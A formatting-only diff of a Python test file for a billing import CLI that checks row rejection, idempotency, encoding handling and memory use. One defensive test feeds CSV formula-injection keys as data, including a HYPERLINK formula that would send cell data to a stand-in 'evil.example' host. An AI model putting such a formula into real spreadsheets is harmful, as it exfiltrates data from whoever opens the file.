@@ -19,8 +19,9 @@ CLI = [sys.executable, "-m", "billing_adapter.cli", "import"]
 
 def cli(billing_url: str, *args: str) -> subprocess.CompletedProcess[str]:
     env = {**os.environ, "DATABASE_URL": billing_url, "COLUMNS": "120"}
-    return subprocess.run([*CLI, *args], env=env, capture_output=True, text=True, timeout=120,
-                          check=False)
+    return subprocess.run(
+        [*CLI, *args], env=env, capture_output=True, text=True, timeout=120, check=False
+    )
 
 
 async def count(billing_url: str, sql: str) -> int:
@@ -33,8 +34,10 @@ async def count(billing_url: str, sql: str) -> int:
 
 async def test_the_cli_imports_reports_rejected_rows_and_is_idempotent(billing_url, tmp_path):
     accounts = tmp_path / "customers.csv"
-    accounts.write_text("external_id,name,currency,payment_terms_days\n"
-                        "CUS-1,Acme,USD,30\nCUS-2,Globex,USD,15\n", encoding="utf-8")
+    accounts.write_text(
+        "external_id,name,currency,payment_terms_days\nCUS-1,Acme,USD,30\nCUS-2,Globex,USD,15\n",
+        encoding="utf-8",
+    )
     done = await asyncio.to_thread(cli, billing_url, "accounts", str(accounts))
     assert done.returncode == 0, done.stderr
     assert "read 2, imported 2, updated 0, unchanged 0, rejected 0" in done.stdout
@@ -46,23 +49,29 @@ async def test_the_cli_imports_reports_rejected_rows_and_is_idempotent(billing_u
         '{"external_id": "INV-2", "account_external_id": "CUS-2", "total_minor": 100, '
         '"issue_date": "2026-10-01", "due_date": "2026-09-01"}\n'
         '{"external_id": "INV-3", "account_external_id": "CUS-2", "total_minor": 250, '
-        '"issue_date": "2026-10-02"}\n', encoding="utf-8")
+        '"issue_date": "2026-10-02"}\n',
+        encoding="utf-8",
+    )
     errors = tmp_path / "rejected.csv"
-    done = await asyncio.to_thread(cli, billing_url, "invoices", str(invoices),
-                                   "--errors", str(errors))
+    done = await asyncio.to_thread(
+        cli, billing_url, "invoices", str(invoices), "--errors", str(errors)
+    )
     assert done.returncode == 1, done.stderr  # some rows were rejected
     assert "read 3, imported 2, updated 0, unchanged 0, rejected 1" in done.stdout
     assert "row 2 (line 2) due_date: the due date is before the issue date" in done.stderr
     with errors.open(encoding="utf-8") as sink:
-        assert list(csv.reader(sink)) == [["row", "line", "field", "reason"],
-                                          ["2", "2", "due_date",
-                                           "the due date is before the issue date"]]
+        assert list(csv.reader(sink)) == [
+            ["row", "line", "field", "reason"],
+            ["2", "2", "due_date", "the due date is before the issue date"],
+        ]
     events = await count(billing_url, "SELECT count(*) FROM events")
     outbox = await count(billing_url, "SELECT count(*) FROM outbox")
     assert events == outbox == 4  # through the event store, so the relay publishes them
     by_user = f"cli:{getpass.getuser()}".replace("'", "''")
-    assert await count(billing_url, "SELECT count(*) FROM events "
-                                    f"WHERE data->>'actor' = '{by_user}'") == events
+    assert (
+        await count(billing_url, f"SELECT count(*) FROM events WHERE data->>'actor' = '{by_user}'")
+        == events
+    )
 
     again = await asyncio.to_thread(cli, billing_url, "invoices", str(invoices), "--quiet")
     assert "read 3, imported 0, updated 0, unchanged 2, rejected 1" in again.stdout
@@ -81,12 +90,15 @@ async def test_a_row_that_is_not_utf8_is_rejected_and_a_bom_is_no_column(billing
     """Found by the import fuzz: one Latin-1 byte refused the whole file, and a file saved
     with a byte-order mark was refused for an unknown column '\\ufeffexternal_id'."""
     mixed = tmp_path / "accounts.csv"
-    mixed.write_bytes(b"\xef\xbb\xbfexternal_id,name,currency,payment_terms_days\r\n"
-                      + "CUS-1,Soci\xe9t\xe9,EUR,30\r\n".encode("latin-1")
-                      + "CUS-2,Société,EUR,30\r\n".encode())
+    mixed.write_bytes(
+        b"\xef\xbb\xbfexternal_id,name,currency,payment_terms_days\r\n"
+        + "CUS-1,Soci\xe9t\xe9,EUR,30\r\n".encode("latin-1")
+        + "CUS-2,Société,EUR,30\r\n".encode()
+    )
     errors = tmp_path / "errors.csv"
-    done = await asyncio.to_thread(cli, billing_url, "accounts", str(mixed), "--quiet",
-                                   "--errors", str(errors))
+    done = await asyncio.to_thread(
+        cli, billing_url, "accounts", str(mixed), "--quiet", "--errors", str(errors)
+    )
     assert done.returncode == 1, done.stderr
     assert "read 2, imported 1, updated 0, unchanged 0, rejected 1" in done.stdout
     with errors.open(encoding="utf-8") as sink:
@@ -99,16 +111,35 @@ async def test_a_row_that_is_not_utf8_is_rejected_and_a_bom_is_no_column(billing
 async def test_the_error_file_never_hands_a_spreadsheet_a_formula(billing_url, tmp_path):
     """A rejected row's field is the file's own text when the key is unknown: a key like
     `=HYPERLINK(...)` went into the error file as a live formula for whoever opened it."""
-    hostile = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)",
-               "\tcmd", "\rcmd"]
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1)',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\tcmd",
+        "\rcmd",
+    ]
     invoices = tmp_path / "invoices.jsonl"
-    invoices.write_text("".join(
-        json.dumps({"external_id": f"INV-{n}", "account_external_id": "CUS-1",
-                    "total_minor": 100, "issue_date": "2026-10-01", key: 1}) + "\n"
-        for n, key in enumerate(hostile)), encoding="utf-8")
+    invoices.write_text(
+        "".join(
+            json.dumps(
+                {
+                    "external_id": f"INV-{n}",
+                    "account_external_id": "CUS-1",
+                    "total_minor": 100,
+                    "issue_date": "2026-10-01",
+                    key: 1,
+                }
+            )
+            + "\n"
+            for n, key in enumerate(hostile)
+        ),
+        encoding="utf-8",
+    )
     errors = tmp_path / "rejected.csv"
-    done = await asyncio.to_thread(cli, billing_url, "invoices", str(invoices), "--quiet",
-                                   "--errors", str(errors))
+    done = await asyncio.to_thread(
+        cli, billing_url, "invoices", str(invoices), "--quiet", "--errors", str(errors)
+    )
     assert done.returncode == 1, done.stderr
     with errors.open(encoding="utf-8", newline="") as sink:
         rows = list(csv.DictReader(sink))
@@ -117,34 +148,66 @@ async def test_the_error_file_never_hands_a_spreadsheet_a_formula(billing_url, t
 
 
 # Runs the CLI and reports the process's peak resident memory in kB (Linux ru_maxrss).
-MEASURED = ("import resource, sys\n"
-            "from billing_adapter.cli import app\n"
-            "try:\n    app(sys.argv[1:])\n"
-            "finally:\n"
-            "    print('maxrss', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, "
-            "file=sys.stderr)\n")
+MEASURED = (
+    "import resource, sys\n"
+    "from billing_adapter.cli import app\n"
+    "try:\n    app(sys.argv[1:])\n"
+    "finally:\n"
+    "    print('maxrss', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, "
+    "file=sys.stderr)\n"
+)
 
 
 def invoices_file(path: Path, rows: int, accounts: int) -> Path:
     """JSON Lines invoices with two lines each: about 300 bytes a row."""
     with path.open("w", encoding="utf-8") as out:
         for i in range(rows):
-            out.write(json.dumps({
-                "external_id": f"INV-{path.stem}-{i:07d}",
-                "account_external_id": f"CUS-{i % accounts}",
-                "total_minor": 3000, "issue_date": "2026-10-01", "due_date": "2026-11-15",
-                "lines": [{"description": f"Seats for workspace {i}", "quantity": 2,
-                           "unit_price_minor": 1000},
-                          {"description": "Support plan", "quantity": 1,
-                           "unit_price_minor": 1000}]}) + "\n")
+            out.write(
+                json.dumps(
+                    {
+                        "external_id": f"INV-{path.stem}-{i:07d}",
+                        "account_external_id": f"CUS-{i % accounts}",
+                        "total_minor": 3000,
+                        "issue_date": "2026-10-01",
+                        "due_date": "2026-11-15",
+                        "lines": [
+                            {
+                                "description": f"Seats for workspace {i}",
+                                "quantity": 2,
+                                "unit_price_minor": 1000,
+                            },
+                            {
+                                "description": "Support plan",
+                                "quantity": 1,
+                                "unit_price_minor": 1000,
+                            },
+                        ],
+                    }
+                )
+                + "\n"
+            )
     return path
 
 
 def peak_rss_kb(billing_url: str, path: Path) -> int:
-    done = subprocess.run([sys.executable, "-c", MEASURED, "import", "invoices", str(path),
-                           "--quiet", "--batch-size", "1000"],
-                          env={**os.environ, "DATABASE_URL": billing_url},
-                          capture_output=True, text=True, timeout=600, check=False)
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            MEASURED,
+            "import",
+            "invoices",
+            str(path),
+            "--quiet",
+            "--batch-size",
+            "1000",
+        ],
+        env={**os.environ, "DATABASE_URL": billing_url},
+        capture_output=True,
+        text=True,
+        timeout=600,
+        check=False,
+    )
     assert done.returncode == 0, done.stderr
     return int(done.stderr.rsplit("maxrss", 1)[1])
 
@@ -153,15 +216,20 @@ def peak_rss_kb(billing_url: str, path: Path) -> int:
 async def test_memory_stays_flat_however_long_the_file(billing_url, tmp_path):
     """Ten times the rows, no more memory: the file streams through in batches."""
     accounts = tmp_path / "accounts.csv"
-    accounts.write_text("external_id,name,currency,payment_terms_days\n" + "".join(
-        f"CUS-{i},Customer {i},USD,30\n" for i in range(1000)), encoding="utf-8")
+    accounts.write_text(
+        "external_id,name,currency,payment_terms_days\n"
+        + "".join(f"CUS-{i},Customer {i},USD,30\n" for i in range(1000)),
+        encoding="utf-8",
+    )
     assert (await asyncio.to_thread(cli, billing_url, "accounts", str(accounts))).returncode == 0
     short = invoices_file(tmp_path / "short.jsonl", 6_000, 1000)
     long = invoices_file(tmp_path / "long.jsonl", 60_000, 1000)
     short_kb = await asyncio.to_thread(peak_rss_kb, billing_url, short)
     long_kb = await asyncio.to_thread(peak_rss_kb, billing_url, long)
-    assert await count(billing_url, "SELECT count(*) FROM external_ids "
-                                    "WHERE kind = 'invoice'") == 66_000
+    assert (
+        await count(billing_url, "SELECT count(*) FROM external_ids WHERE kind = 'invoice'")
+        == 66_000
+    )
     growth = (long_kb - short_kb) * 1024
     extra_file = long.stat().st_size - short.stat().st_size
     assert extra_file > 15_000_000
